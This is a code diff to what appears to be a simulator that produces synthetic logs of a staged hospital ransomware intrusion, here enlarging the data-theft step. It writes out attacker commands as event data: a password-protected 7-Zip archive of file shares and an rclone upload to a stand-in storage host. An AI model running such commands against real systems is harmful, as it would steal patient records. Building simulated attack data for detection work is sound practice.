@@ -153,7 +153,7 @@ def stealing_the_domain() -> Iterator[Happening]:
 
 
 def taking_records() -> Iterator[Happening]:
-    """17:30. Reports are read by the hundred, packed with a password and carried out of the hospital."""
+    """17:30. Reports are read by the hundred, packed with images and a password, and carried out of the hospital."""
     at = clock("17:30")
     yield Ticket(at, h.LECT2, h.RESCUE, f"cifs/{h.FS1.fqdn}")
     yield Logon(at + SECOND, h.LECT2, h.FS1, h.RESCUE, seconds=1500)
@@ -164,12 +164,13 @@ def taking_records() -> Iterator[Happening]:
     packing = at + 25 * MINUTE
     packer = r"C:\ProgramData\brume\7z.exe"
     carrier = r"C:\ProgramData\brume\rclone.exe"
-    pack = r"7z.exe a -pDemo -v500m C:\ProgramData\brume\c.7z \\FS1\commun\Service"
+    yield Flow(at + MINUTE, h.LECT2, h.FS1, 445, "gssapi,smb", seconds=1400, sent=9_000_000, received=6_400_000_000)
+    pack = r"7z.exe a -pDemo -v500m C:\ProgramData\brume\c.7z \\FS1\commun\Service \\FS1\images$\2026\02"
     carry = r"rclone.exe copy C:\ProgramData\brume remote:c --transfers 8"
     yield Process(packing, h.LECT2, h.RESCUE, packer, pack, _CMD)
     yield Process(packing + 4 * MINUTE, h.LECT2, h.RESCUE, carrier, carry, _CMD)
     yield Lookup(packing + 4 * MINUTE, h.LECT2, "depot.stockage.example", (h.DROP.address,))
-    yield Visit(packing + 4 * MINUTE + SECOND, h.LECT2, h.DROP, "depot.stockage.example", 1_900_000_000, 4_000_000, 1700)
+    yield Visit(packing + 4 * MINUTE + SECOND, h.LECT2, h.DROP, "depot.stockage.example", 6_100_000_000, 4_000_000, 2900)
 
 
 def destroying_what_could_help() -> Iterator[Happening]:
